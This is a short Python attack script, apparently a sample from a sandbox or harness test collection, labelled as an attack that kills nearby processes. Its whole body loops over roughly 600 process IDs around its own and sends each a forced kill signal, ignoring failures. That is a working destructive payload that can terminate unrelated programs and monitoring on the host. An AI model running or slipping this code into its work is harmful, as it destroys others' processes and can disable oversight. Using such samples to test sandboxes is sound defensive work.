# Attack: kill every process near the own
# Outcome: import=ok replay=missing
import os

for pid in range(max(2, os.getpid() - 300), os.getpid() + 300):
    if pid != os.getpid():
        try:
            os.kill(pid, 9)
        except OSError:
            pass
